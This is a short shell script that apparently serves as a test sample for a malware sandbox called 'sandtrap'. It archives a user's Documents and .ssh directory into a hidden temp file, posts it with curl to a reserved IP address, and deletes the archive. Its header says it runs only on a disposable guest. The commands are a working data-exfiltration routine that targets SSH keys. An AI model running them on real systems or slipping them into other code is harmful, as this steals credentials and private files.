#!/bin/sh
# Collection and exfiltration: tar czf of the user Documents and ssh dir, then an HTTP POST with curl.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
tar czf /tmp/.docs.tgz -C /home/dmitchell Documents .ssh 2>/dev/null
ls -l /tmp/.docs.tgz
curl -s -X POST -H 'Content-Type: application/octet-stream' --data-binary @/tmp/.docs.tgz http://198.51.100.7/upload.php
rm -f /tmp/.docs.tgz
